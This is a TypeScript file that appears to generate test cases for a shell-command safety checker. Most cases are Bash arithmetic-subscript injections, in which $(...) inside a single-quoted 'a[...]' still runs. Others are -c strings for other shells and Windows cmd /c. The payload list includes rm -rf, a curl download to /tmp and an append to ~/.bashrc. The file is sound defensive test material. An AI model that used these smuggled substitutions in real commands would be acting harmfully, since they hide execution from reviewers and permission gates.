/**
 * Principle 4 — semantics of the shell that runs it.
 *
 * Bash evaluates `$(…)` inside array subscripts in arithmetic contexts, even in single quotes
 * (`[[ 'a[$(touch x)]' -eq 1 ]]`, `test -v 'a[$(id)]'`, `(( 'a[$(id)]' ))`). The `-c` strings
 * of other shells (fish, csh, pwsh …) and Windows `cmd /c "…"` are opaque: ask. zsh's too, except text in
 * the words zsh and bash read alike (issue 21, family 8; its benign cases are in needless.ts).
 */

import { benign, dangerous, finish, QUIET_WRAPPERS, rotate, type Draft, type FamilyCase } from './kit'

/** Substitutions hidden in a subscript; the harmless-looking ones matter most. */
const PAYLOADS = ['$(touch x)', '$(id)', '`id`', '$(rm -rf build)', '$(curl -s x.example -o /tmp/p)', '$(echo hi >> ~/.bashrc)']

/** `S` is replaced by a single-quoted (or otherwise inert-looking) subscripted name. */
const ARITH_TEMPLATES = [
  "[[ 'a[S]' -eq 1 ]]",
  "[[ 1 -eq 'a[S]' ]]",
  "[[ 'x[S]' -lt 2 ]]",
  "[[ 'a[S]' -ne 0 ]]",
  "[[ 'a[S]' -le 0 ]]",
  "[[ 'a[S]' -ge 0 ]]",
  "[[ 'a[S]' -gt 0 ]]",
  "test -v 'a[S]'",
  "[ -v 'a[S]' ]",
  "[[ -v 'a[S]' ]]",
  "(( 'a[S]' ))",
  "(( x = 'a[S]' ))",
  "let 'a[S]'",
  "let 'x=a[S]+1'",
  "declare -i n='a[S]'",
  "typeset -i n='a[S]'",
  "x='a[S]'; [[ $x -eq 1 ]]",
  "x='a[S]'; (( x ))",
  "x='a[S]'; echo $(( x + 1 ))",
  "[[ 'a[S]' -eq 1 ]] && echo yes",
  "if [[ 'a[S]' -eq 0 ]]; then echo zero; fi",
  "ls && [[ 'a[S]' -eq 1 ]]",
  "read 'a[S]' <<< x",
  "unset 'a[S]'",
  "for (( i='a[S]'; i<1; i++ )); do :; done",
  "while [[ 'a[S]' -lt 0 ]]; do :; done",
  "[[ 'a[S]' -eq 1 || -f README.md ]]",
  "test -v 'b[S]' && ls",
  "declare -a a; [[ 'a[S]' -eq 1 ]]",
  'printf -v \'a[S]\' %s x'
]

function arithmeticSubscripts(): Draft[] {
  const rotated = ARITH_TEMPLATES.map((t, i) => t.replace('S', rotate(PAYLOADS, i)))
  // The canonical three with every payload.
  const full = ["[[ 'a[S]' -eq 1 ]]", "test -v 'a[S]'", "(( 'a[S]' ))"].flatMap((t) => PAYLOADS.map((p) => t.replace('S', p)))
  // Spelled with double quotes, escaped dollar, nested quoting: still a subscript bash evaluates.
  const spelled = [
    '[[ "a[\\$(id)]" -eq 1 ]]',
    "[[ a['$(id)'] -eq 1 ]]",
    "[[ $'a[$(id)]' -eq 1 ]]",
    "test -v a['$(id)']",
    "(( a['$(touch x)'] ))",
    "[[ 'a''[$(id)]' -eq 1 ]]",
    "[[ 'a['\"$(id)\"']' -eq 1 ]]"
  ]
  return dangerous('$(…) inside arithmetic subscripts', [...rotated, ...full, ...spelled])
}

function arithmeticControls(): Draft[] {
  return benign('tests and arithmetic without substitutions', [
    'test -d src',
    '[ -f src/index.ts ]',
    '[[ -d build ]]',
    '[[ 2 -gt 1 ]]',
    'test -n hello',
    '[[ -f README.md && -d src ]]',
    "echo 'a[$(touch x)]'",
    "grep -n 'a[$(id)]' README.md"
  ])
}

/** [program, flag forms] — shells whose syntax is not bash's, so their -c text is opaque. */
const OTHER_SHELLS: readonly [string, readonly string[]][] = [
  ['fish', ['-c', '--command', '-C', '-ic']],
  ['csh', ['-c', '-fc', '-f -c']],
  ['tcsh', ['-c', '-fc']],
  ['ksh', ['-c']],
  ['mksh', ['-c']],
  ['nu', ['-c', '--commands']],
  ['xonsh', ['-c']],
  ['elvish', ['-c']],
  ['yash', ['-c']],
  ['osh', ['-c']],
  ['pwsh', ['-c', '-Command', '-NoProfile -Command', '-nop -c']],
  ['powershell', ['-Command', '-c', '-NoProfile -NonInteractive -Command']],
  ['powershell.exe', ['-Command']],
  ['pwsh.exe', ['-c']],
  ['/usr/bin/fish', ['-c']],
  ['/usr/local/bin/fish', ['-c']],
  ['/bin/csh', ['-c']]
]

/** Texts that would be harmless in bash; in another shell nobody parsed them. */
const INNOCENT = ["'ls'", "'pwd'", '"echo hi"', "'git status'", "'cat README.md'", "'ls -la src'", "'head -n 3 README.md'"]

function otherShellsC(): Draft[] {
  const out: string[] = []
  let i = 0
  for (const [shell, flags] of OTHER_SHELLS) {
    for (const flag of flags) out.push(`${shell} ${flag} ${rotate(INNOCENT, i++)}`)
  }
  out.push(
    ...QUIET_WRAPPERS.slice(0, 5).map((w, k) => `${w} ${rotate(['mksh', 'fish', 'ksh', 'pwsh', 'tcsh'], k)} -c ${rotate(INNOCENT, k)}`),
    "echo x | xargs zsh -c 'ls'",
    String.raw`find . -name '*.ts' -exec fish -c 'echo $argv' {} \;`,
    "script -q -c 'ls' /dev/null",
    "zsh -c 'ls =(id)'",
    "fish -c 'ls (id)'",
    "zsh -c 'echo ${(e):-\\$(id)}'",
    // zsh reads plain words as bash does (families/needless.ts); its own syntax stays opaque.
    "zsh -c 'ls *(e:id:)'",
    "zsh -lc 'echo =ls'",
    "zsh -c 'ls <1-10>'",
    "zsh -fc 'ls **/*(.)'",
    '/bin/zsh -c "echo ${(%):-%n}"',
    "pwsh -c 'Get-ChildItem'",
    "zsh <<< 'ls'",
    "fish <<< 'pwd'",
    'echo ls | zsh',
    'echo pwd | fish',
    "printf 'ls' | pwsh -Command -"
  )
  return dangerous('-c strings of other shells are opaque', out)
}

function windowsCmd(): Draft[] {
  return dangerous('cmd /c "…" is opaque', [
    'cmd /c "dir"',
    'cmd /c type README.md',
    'cmd.exe /c "echo hi"',
    'cmd /k dir',
    'cmd /C ver',
    'cmd /s /c "dir src"',
    'cmd /c "dir & del x"',
    'CMD /C dir',
    'cmd.exe /c type README.md',
    'cmd /d /c "git status"',
    'cmd /c dir /b',
    'cmd //c dir',
    'cmd /q /c "type .env"',
    'cmd.exe /k "ver"',
    'Cmd /c echo %PATH%',
    'C:/Windows/System32/cmd.exe /c dir',
    'cmd /c "ls"',
    'cmd /c start calc.exe'
  ])
}

export function shellsCases(): FamilyCase[] {
  return finish(4, [...arithmeticSubscripts(), ...arithmeticControls(), ...otherShellsC(), ...windowsCmd()])
}
